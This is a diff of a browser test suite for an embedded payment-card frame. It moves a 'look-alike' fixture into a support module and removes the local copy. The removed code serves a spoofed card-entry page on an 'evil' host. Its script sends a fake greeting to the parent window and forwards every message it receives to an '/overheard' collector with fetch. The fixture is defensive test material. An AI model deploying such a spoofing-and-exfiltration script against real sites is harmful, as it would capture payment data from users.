@@ -1,9 +1,9 @@
 import { BenchPage, FIELDS, VISA, type Mode } from '../support/bench-page.js';
 import { findLeaks, hostPlaces } from '../support/canary.js';
+import { serveLookAlike } from '../support/look-alike.js';
 import { addRawFrames, COLLECT_SETUP } from '../support/raw-frame.js';
 import { Stage } from '../support/stage.js';
 import { expect, test } from '../support/test.js';
-import type { World } from '../support/world.js';
 
 declare global {
   interface Window {
@@ -14,28 +14,6 @@ declare global {
 }
 
 const MODE: Mode = 'one frame';
-
-/** A document of another site that greets as ours do, and tells its own server of everything that it hears. */
-function serveLookAlike(world: World): { readonly url: string; readonly heard: readonly string[] } {
-  const { build } = world.site;
-  const heard: string[] = [];
-  const tell = world.hosts.serve('/overheard', {
-    handle: async (_, body) => {
-      heard.push(body);
-      return { status: 200, body: '' };
-    },
-  });
-  const greeting = { cloister: 'hello', protocol: 1, build, role: 'collect', frame: 'a'.repeat(22) };
-  const script = `const tell = (body) => fetch('${tell}', { method: 'POST', keepalive: true, body });
-    addEventListener('message', (event) => tell(JSON.stringify(event.data)));
-    parent.postMessage(${JSON.stringify(greeting)}, '*');
-    tell('began');
-    setTimeout(tell, 600, 'listened');`;
-  const path = world.hosts.serve('/look-alike', {
-    body: `<!doctype html><label>Card number <input></label><script>${script}</script>`,
-  });
-  return { url: `${world.hosts.origin('evil')}${path}`, heard };
-}
 
 test.describe('a look-alike', () => {
   test('A08 to which our frame is sent before it is welcomed gets nothing, and the frame is given up', async ({
